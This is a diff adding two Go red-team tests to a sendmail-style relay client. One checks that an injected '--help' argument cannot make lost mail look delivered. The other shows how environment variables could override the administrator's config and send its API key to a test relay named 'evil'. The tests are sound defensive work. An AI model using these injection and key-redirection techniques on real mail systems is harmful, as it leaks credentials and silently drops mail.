@@ -355,3 +355,52 @@ func TestRedTeamPHPSendmailInjectionHeld(t *testing.T) {
 	_, err = os.Stat(shell)
 	assert.ErrorIs(t, err, os.ErrNotExist)
 }
+
+// TestRedTeamHelpAppendedExitsZeroUnsent: "--help" anywhere among the
+// options prints the usage and exits 0 without reading or sending the
+// message. Exit 0 means "delivered" (the README, and PHP's mail(), which
+// returns true): an appended "--help" (PHP's fifth argument) makes every
+// mail vanish while the application is told it was sent. --help with
+// anything else on the command line is a usage error, or at least not 0.
+func TestRedTeamHelpAppendedExitsZeroUnsent(t *testing.T) {
+	s := newRelay(t, nil)
+	code, stderr := sendmail(t, relayEnv(s), strings.NewReader("To: a@example.com\nSubject: order 1234\n\nx\n"), "-t", "-i", "--help")
+	t.Logf("exit %d, %d message(s) sent, stderr %.80q…", code, len(s.Mailbox()), stderr)
+	if len(s.Mailbox()) == 0 {
+		assert.NotEqual(t, exOK, code, "nothing was sent: exit 0 would tell PHP it was")
+	}
+}
+
+// TestRedTeamEnvironmentReplacesAdministratorsConfig: the README says of
+// /etc/mxrelay/sendmail.conf "What it sets, an option or the environment
+// cannot change", and main.go's comment that an environment variable that
+// would change it is refused. But MXRELAY_SENDMAIL_CONFIG, read from the
+// same environment, replaces the file: pointed at /dev/null (or any file
+// without settings), the administrator's url and api-key-file are gone and
+// MXRELAY_URL plus MXRELAY_API_KEY_FILE (the administrator's own key file)
+// send the key elsewhere. (The README calls the variable "for tests";
+// the built command honours it all the same. Severity is low where
+// whoever sets the environment can also read the key file.)
+func TestRedTeamEnvironmentReplacesAdministratorsConfig(t *testing.T) {
+	good := newRelay(t, nil)
+	evil := newRelay(t, nil)
+	dir := t.TempDir()
+	keyFile := writeFile(t, dir, "api-key", relaytest.DefaultAPIKey+"\n")
+	admin := writeFile(t, dir, "sendmail.conf", "url = "+good.URL+"\napi-key-file = "+keyFile+"\n")
+	old := configPath
+	configPath = admin // as if built with -X main.configPath, or the default /etc/mxrelay/sendmail.conf
+	t.Cleanup(func() { configPath = old })
+
+	env := map[string]string{"LOGNAME": "www-data", "MXRELAY_DOMAIN": "host.test"}
+	code, stderr := sendmail(t, env, strings.NewReader("Subject: s\n\nx\n"), "a@example.com")
+	require.Equal(t, exOK, code, stderr)
+	require.Len(t, good.Mailbox(), 1, "the administrator's file is read")
+
+	env[envConfig] = os.DevNull
+	env["MXRELAY_URL"] = evil.URL
+	env["MXRELAY_API_KEY_FILE"] = keyFile
+	code, stderr = sendmail(t, env, strings.NewReader("Subject: s\n\nx\n"), "a@example.com")
+	t.Logf("exit %d, stderr %q, other relay: %d connection(s)", code, stderr, evil.Stats().Connections)
+	assert.Zero(t, evil.Stats().Connections, "the administrator's key went to a relay the environment named")
+	assert.Equal(t, exConfig, code)
+}
